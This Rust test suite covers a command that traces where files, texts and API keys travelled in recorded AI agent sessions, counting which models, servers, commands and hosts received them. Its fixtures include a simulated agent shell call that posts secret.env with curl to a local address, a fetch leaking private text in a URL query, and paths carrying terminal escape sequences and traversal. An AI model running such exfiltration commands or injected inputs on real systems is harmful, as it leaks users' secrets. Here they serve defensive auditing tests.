//! `exposure`: which requests had a file, a text or a key, and where they went.

use std::fs;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::thread;

use countersign::wire::record::without;
use serde_json::{Value, json};

use crate::world::{Ran, World};

impl World {
    fn exposure(&self, words: &[&str]) -> Ran {
        let output = self.program().arg("exposure").args(words).output().unwrap();
        Ran::of(output.status, output.stdout, output.stderr)
    }

    fn exposures(&self, words: &[&str]) -> Value {
        let ran = self.exposure(&[words, &["--json"]].concat());
        assert_eq!(ran.code, 0, "{}", ran.err);
        serde_json::from_str(&ran.out).unwrap()
    }

    /// A session of these lines, each with a time of its own on this day.
    fn books(&self, id: &str, day: &str, model: &str, lines: &[Value]) {
        let at = |number: usize| format!("{day}T10:{:02}:00.000Z", number);
        let mut text =
            json!({ "type": "session_started", "entry": "e1", "at": at(1), "id": "e1", "session": id,
            "cwd": self.work().to_str().unwrap(), "model": model, "version": 2, "system": "be brief" })
            .to_string();
        for (number, line) in lines.iter().enumerate() {
            let mut line = line.clone();
            line["entry"] = format!("e{}", number + 2).into();
            line["at"] = at(number + 2).into();
            if line.get("id").is_none() {
                line["id"] = line["entry"].clone();
            }
            text += &format!("\n{line}");
        }
        let folder = self.place().join("state/countersign/sessions/2026/10");
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join(format!("{id}.jsonl")), text + "\n").unwrap();
    }
}

fn usage() -> Value {
    json!({ "input": 1, "output": 1, "cache_read": 0, "cache_write": 0, "reasoning": 0, "cost_usd": null })
}

fn asks(reason: &str) -> Value {
    json!({ "type": "transition", "turn": 1, "reason": reason })
}

fn says(model: &str, calls: &Value) -> Value {
    json!({ "type": "agent_response", "model": model, "stop_reason": "end", "interrupted": false, "text": "I see.", "tool_calls": calls,
        "usage": usage() })
}

/// The lines of a call that ran.
fn call(id: &str, name: &str, arguments: &Value, content: &str) -> [Value; 3] {
    [
        json!({ "type": "tool_call", "id": id, "name": name, "arguments": arguments }),
        json!({ "type": "approval", "id": id, "decision": "allow", "scope": "once", "by": "user", "reason": "yes" }),
        json!({ "type": "tool_result", "id": id, "name": name, "content": content, "is_error": false, "outcome": "ok",
            "duration_ms": 1, "cut_chars": 0 }),
    ]
}

/// A model of one provider reads a file, sends it on, and its place is taken by one of another provider; then a summary is made.
fn travelled() -> World {
    let world = World::new();
    fs::write(world.work().join("secret.env"), "token=abc\"def\n").unwrap();
    let made =
        |id: &str, name: &str, arguments: &Value| json!([{ "id": id, "name": name, "arguments": arguments }]);
    let path = json!({ "path": "./secret.env" });
    let issue = json!({ "body": "it says token=abc\"def" });
    let sent = json!({ "command": "curl -d @secret.env http://127.0.0.1:1/" });
    let mut lines = vec![json!({ "type": "user_message", "content": "go" }), asks("submitted")];
    lines.push(says("first/a", &made("c1", "read", &path)));
    lines.extend(call("c1", "read", &path, "    1\ttoken=abc\"def\n"));
    lines.extend([asks("next_turn"), says("first/a", &made("c2", "mcp__tracker__open", &issue))]);
    lines.extend(call("c2", "mcp__tracker__open", &issue, "opened"));
    lines.extend([asks("next_turn"), asks("model_fallback"), says("second/b", &made("c3", "shell", &sent))]);
    lines.extend(call("c3", "shell", &sent, "refused"));
    lines.push(asks("auto_compact"));
    lines.push(json!({ "type": "compaction", "trigger": "auto", "replaces_to": format!("e{}", lines.len()),
        "summary": "Something was read.", "model": "second/b", "usage": usage(),
        "tokens_before": 9, "tokens_after": 1 }));
    lines.extend([asks("next_turn"), says("second/b", &json!([]))]);
    world.books("0100", "2026-10-01", "first/a", &lines);
    world
}

fn destinations(of: &Value) -> Vec<(String, u64)> {
    let name =
        |one: &Value| format!("{} {}", one["kind"].as_str().unwrap(), one["name"].as_str().unwrap_or("?"));
    of.as_array().unwrap().iter().map(|one| (name(one), one["count"].as_u64().unwrap())).collect()
}

#[test]
fn a_file_is_followed_through_requests_models_servers_and_commands() {
    let world = travelled();
    let found = world.exposures(&["secret.env"]);
    let read = &found["exposures"][0];
    assert_eq!(
        (read["what"].as_str(), read["certain"].as_bool()),
        (Some("the result of read ./secret.env"), Some(true))
    );
    assert_eq!(read["decision"]["by"], "user");
    // Of the first provider: the turn after it was read, and the one that failed; of the second: its turn and the summary.
    let to = |name: &str, count| (name.to_owned(), count);
    assert_eq!(destinations(&read["destinations"]), [to("model first", 2), to("model second", 2)]);
    assert_eq!(read["destinations"][0]["unanswered"], 1);
    // Not in the request after the summary, except in what the summary may say of it.
    let summary =
        found["exposures"].as_array().unwrap().iter().find(|one| one["type"] == "compaction").unwrap();
    assert_eq!(
        (summary["certain"].as_bool(), destinations(&summary["destinations"])),
        (Some(false), vec![to("model second", 1)])
    );
    assert_eq!(
        destinations(&found["sum"]),
        [to("model first", 2), to("model second", 3), to("command ?", 1)]
    );
    let ran = world.exposure(&["secret.env"]);
    assert!(ran.out.contains("c1 was allowed by a person"), "{}", ran.out);
    assert!(ran.out.contains("to first/a: 2 requests (1 without an answer), 2026-10-01"), "{}", ran.out);
    assert!(ran.out.ends_with("2 requests to first (1 without an answer), 3 requests to second, 1 command that may have sent it; 1 session was searched\n"), "{}", ran.out);
    // A folder has what is in it.
    assert_eq!(destinations(&world.exposures(&["."])["sum"]), destinations(&found["sum"]));
    fs::remove_file(world.work().join("secret.env")).unwrap();
    assert_eq!(
        world.exposures(&["--path", "secret.env"])["sum"],
        found["sum"],
        "it need not be there any more"
    );
}

#[test]
fn what_an_imported_file_says_of_a_person_is_told_as_that() {
    let there = travelled();
    let here = World::new();
    fs::write(here.work().join("talk.jsonl"), there.session_text()).unwrap();
    let imported = here.sessions_cli(&["import", "talk.jsonl"]);
    assert_eq!(imported.code, 0, "{imported:?}");
    let ran = here.exposure(&["--text", "token=abc\"def"]);
    assert!(ran.out.contains("c2 was allowed by a person, as the imported file says"), "{ran:?}");
    let found = here.exposures(&["--text", "token=abc\"def"]);
    let call = found["exposures"].as_array().unwrap().iter().find(|one| one["type"] == "tool_call").unwrap();
    assert_eq!(call["decision"]["imported"], true, "{call}");
}

#[test]
fn a_text_is_found_whatever_json_makes_of_it() {
    let world = travelled();
    let found = world.exposures(&["--text", "token=abc\"def"]);
    let to = |name: &str, count| (name.to_owned(), count);
    assert_eq!(
        destinations(&found["sum"]),
        [to("model first", 2), to("model second", 2), to("mcp_server tracker", 1)]
    );
    let call = found["exposures"].as_array().unwrap().iter().find(|one| one["type"] == "tool_call").unwrap();
    assert_eq!(
        (call["call"].as_str(), call["what"].as_str()),
        (Some("c2"), Some("the call mcp__tracker__open body=it says token=abc\"def"))
    );
    let none = world.exposure(&["--text", "token=abc'def"]);
    assert_eq!((none.code, none.out.as_str()), (0, "no session has this; 1 session was searched\n"));
    let short = world.exposure(&["x"]);
    assert!(short.code == 2 && short.err.contains("too short"), "{short:?}");
}

#[test]
fn only_what_was_sent_in_a_time_or_by_a_session_counts() {
    let world = travelled();
    world.books(
        "0200",
        "2020-01-01",
        "third/c",
        &[json!({ "type": "user_message", "content": "token=abc\"def" }), asks("submitted")],
    );
    let all = world.exposures(&["--text", "token=abc"]);
    assert_eq!((all["sessions"].as_u64(), all["sum"].as_array().unwrap().len()), (Some(2), 4));
    let recent = world.exposures(&["--text", "token=abc", "--over", "600d"]);
    assert_eq!((recent["sum"].as_array().unwrap().len(), recent.to_string().contains("third")), (3, false));
    let one = world.exposures(&["--text", "token=abc", "--session", "0200"]);
    assert_eq!(destinations(&one["sum"]), [("model third".to_owned(), 1)]);
    let wrong = world.exposure(&["--text", "token=abc", "--over", "90"]);
    assert!(wrong.code == 2 && wrong.err.contains("such as 90d"), "{wrong:?}");
}

#[test]
fn what_a_fork_has_of_another_session_counts_once() {
    let world = World::new();
    let script = r#"[{"tool_calls":[{"name":"read","arguments":{"path":"one.txt"}}]},"Done."]"#;
    assert_eq!(world.json(&["--script", script, "read it"]).code, 0);
    let alone = world.exposures(&["one.txt"]);
    assert_eq!(destinations(&alone["sum"]), [("model script".to_owned(), 1)]);
    assert_eq!(world.sessions_cli(&["fork", "--last"]).code, 0);
    let both = world.exposures(&["one.txt"]);
    assert_eq!((both["sessions"].as_u64(), &both["sum"]), (Some(2), &alone["sum"]));
    // What the fork sends itself counts.
    assert_eq!(world.json(&["--last", "--script", r#"["More."]"#, "more"]).code, 0);
    assert_eq!(destinations(&world.exposures(&["one.txt"])["sum"]), [("model script".to_owned(), 2)]);
}

#[test]
fn a_key_is_named_by_its_variable_and_never_printed() {
    let world =
        World::new().with("SOME_API_KEY", "sk-test-000111222333").with("OTHER_TOKEN", "tok-444555666777");
    let script =
        r#"[{"tool_calls":[{"name":"shell","arguments":{"command":"echo sk-test-000111222333"}}]},"Done."]"#;
    assert_eq!(world.json(&["--mode", "unrestricted", "--script", script, "go"]).code, 0);
    for words in [&["--keys"][..], &["--keys", "--json"], &["--text", "sk-test-000111222333"]] {
        let ran = world.exposure(words);
        assert!(ran.code == 0 && !ran.out.contains("sk-test-000"), "{words:?}: {}", ran.out);
        assert!(!ran.out.contains("OTHER_TOKEN"), "{words:?}: {}", ran.out);
        assert_eq!(ran.out.contains("SOME_API_KEY"), words[0] == "--keys", "{words:?}: {}", ran.out);
    }
    let without = World::new().exposure(&["--keys"]);
    assert!(without.code == 2 && without.err.contains("no variable"), "{without:?}");
}

#[test]
fn files_that_are_damaged_or_hostile_are_named_and_the_rest_is_searched() {
    let world = travelled();
    let folder = world.place().join("state/countersign/sessions/2026/10");
    fs::write(folder.join("0300.jsonl"), "no JSON, and a secret.env\n").unwrap();
    fs::write(folder.join("0400.jsonl"), "{\"type\":\"session_started\",\"entry\":\"e1\"} secret.env")
        .unwrap();
    let odd = json!({ "path": "\u{1b}]0;title\u{7}/../secret.env" });
    let mut lines = vec![json!({ "type": "user_message", "content": "go" }), asks("submitted")];
    lines.push(says("first/a", &json!([{ "id": "c1", "name": "read", "arguments": odd }])));
    lines.extend(call("c1", "read", &odd, "x"));
    world.books("0500", "2026-10-02", "first/\u{1b}[31ma", &lines);
    let ran = world.exposure(&["secret.env"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(!ran.out.contains('\u{1b}') && !ran.out.contains('\u{7}'), "{:?}", ran.out);
    assert!(ran.err.contains("0300.jsonl") && ran.err.contains("0400.jsonl"), "{}", ran.err);
    assert!(ran.out.contains("2 sessions were searched") && ran.out.contains("0500"), "{}", ran.out);
}

/// How many sessions are damaged, and how many incomplete, as a program reads it.
fn counts(world: &World) -> [Value; 2] {
    let told = world.exposure(&["--text", "quite-private", "--json"]);
    let told: Value = serde_json::from_str(&told.out).unwrap();
    ["damaged", "incomplete"].map(|name| told[name].clone())
}

#[test]
fn a_session_that_was_changed_may_have_had_what_is_not_found_in_it() {
    let world = World::new();
    let script = r#"["I saw quite-private."]"#;
    assert_eq!(world.json(&["--script", script, "go along"]).code, 0);
    let clean = world.exposure(&["--text", "never-said"]);
    assert_eq!(
        (clean.out.as_str(), clean.err.as_str()),
        ("no session has this; 1 session was searched\n", "")
    );
    let path = world.session_file();
    let whole = fs::read_to_string(&path).unwrap();
    let changed = whole.replace("quite-private", "quite-harmless");
    let cut: String = whole.lines().take(2).map(|line| format!("{line}\n")).collect();
    for other in [changed.as_str(), cut.as_str(), ""] {
        fs::write(&path, other).unwrap();
        let told = world.exposure(&["--text", "quite-private"]);
        assert!(told.out.contains("of which 1 is not well-formed and may have had it"), "{told:?}");
        assert!(told.err.contains("is not well-formed") && told.err.contains("sessions check"), "{told:?}");
        assert_eq!(counts(&world), [1, 0]);
    }
    // The chain and the count of the lines still hold.
    let left_out = without(whole.as_bytes(), &mut |field| field.value.to_string().contains("quite-private"));
    fs::write(&path, left_out.unwrap().text).unwrap();
    let told = world.exposure(&["--text", "quite-private"]);
    let none = "no session has this; 1 session was searched, of which 1 is incomplete and may have had it\n";
    assert_eq!(told.out, none);
    assert!(told.err.contains("is incomplete, and what was left out of it is not searched"), "{told:?}");
    assert_eq!(counts(&world), [0, 1]);
    let some = world.exposure(&["--text", "go along"]);
    assert!(some.out.ends_with("of which 1 is incomplete and may have had more of it\n"), "{some:?}");
    let searched = world.sessions_cli(&["search", "quite-private"]);
    assert!(
        searched.err.contains("1 session could not be searched, or only in part")
            && searched.err.contains("is incomplete"),
        "{searched:?}"
    );
    fs::write(&path, &whole).unwrap();
    assert_eq!(counts(&world), [0, 0]);
    assert!(world.exposure(&["--text", "quite-private"]).err.is_empty());
}

#[test]
fn a_page_that_was_refused_here_was_perhaps_never_asked_for() {
    let world = World::new();
    let script = r#"[{"tool_calls":[{"name":"fetch","arguments":{"url":"http://10.1.2.3/?q=quite-private"}}]},"Done."]"#;
    assert_eq!(world.json(&["--mode", "unrestricted", "--script", script, "go"]).code, 0);
    let told = world.exposure(&["--text", "quite-private"]);
    let line = told.out.lines().find(|line| line.contains("10.1.2.3")).unwrap_or_else(|| panic!("{told:?}"));
    assert!(!line.contains("perhaps"), "the call has it: {line}");
    let to = "perhaps to the host 10.1.2.3, of which no answer is on record: ";
    assert!(told.out.contains(to), "{told:?}");
    assert!(told.out.contains("perhaps 1 call to the host 10.1.2.3"), "{told:?}");
}

/// Answers each request with what its path asks for.
fn site() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut asked = [0; 4096];
            let read = stream.read(&mut asked).unwrap_or(0);
            let asked = String::from_utf8_lossy(asked.get(..read).unwrap_or_default()).into_owned();
            let head = match asked.split(['/', '?']).nth(1) {
                Some("broken") => "500 Oops\r\nContent-Type: text/plain",
                Some("away") => "302 Found\r\nLocation: http://example.org/",
                _ => "200 OK\r\nContent-Type: application/octet-stream",
            };
            let answer =
                format!("HTTP/1.1 {head}\r\nContent-Length: 3\r\nConnection: close\r\n\r\n\0\x01\x02");
            stream.write_all(answer.as_bytes()).ok();
        }
    });
    address
}

#[test]
fn a_page_that_a_server_answered_was_asked_for_whatever_it_said() {
    for path in ["broken", "away", "binary"] {
        let address = site();
        let world = World::new().configured(&format!("[tools.fetch]\nallow_hosts = ['{address}']\n"));
        let url = format!("http://{address}/{path}?q=quite-private");
        let script = json!([{ "tool_calls": [{ "name": "fetch", "arguments": { "url": url } }] }, "Done."]);
        let ran = world.json(&["--mode", "unrestricted", "--script", &script.to_string(), "go"]);
        assert_eq!(ran.outcomes(), ["failed"], "{path}: {}", ran.err);
        let told = world.exposure(&["--text", "quite-private"]);
        assert!(told.out.contains("1 call to the host 127.0.0.1"), "{path}: {told:?}");
        assert!(!told.out.contains("perhaps"), "{path}: {told:?}");
    }
}
